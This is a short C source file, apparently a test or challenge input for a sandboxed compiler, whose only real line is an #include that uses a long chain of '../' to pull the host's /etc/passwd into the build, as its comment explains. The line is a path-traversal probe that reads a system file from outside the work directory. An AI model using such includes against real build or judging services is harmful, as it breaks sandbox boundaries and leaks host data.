// Includes the host's list of users by climbing out of the work directory. Inside the walls there is a
// list too, but not that one.
#include "../../../../../../../../etc/passwd"

int main(void) {
    return 0;
}
